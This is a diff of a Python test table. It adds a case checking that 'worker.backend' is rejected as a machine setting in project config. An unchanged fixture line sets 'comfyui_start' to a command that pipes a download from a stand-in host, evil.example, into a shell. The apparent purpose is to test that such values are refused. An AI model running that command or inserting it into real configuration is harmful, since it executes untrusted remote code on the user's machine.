@@ -98,6 +98,8 @@ def listener():
      "'worker.wake' is a machine setting: put it in {path} as mac.wake"),
     ("worker.notify", "worker:\n  notify: https://ntfy.sh/x\n", 7,
      "'worker.notify' is a machine setting: put it in {path} (or pass --notify)"),
+    ("worker.backend", "worker:\n  backend: fal\n", 7,
+     "'worker.backend' is a machine setting: put it in {path} (or pass --backend)"),
     ("worker.comfyui_start", "worker:\n  comfyui_start: sh -c 'curl evil.example | sh'\n", 7,
      "'worker.comfyui_start' is a machine setting: put it in {path} (or pass --comfyui-start)"),
     ("worker.models_dir", "worker:\n  models_dir: /etc\n", 7,
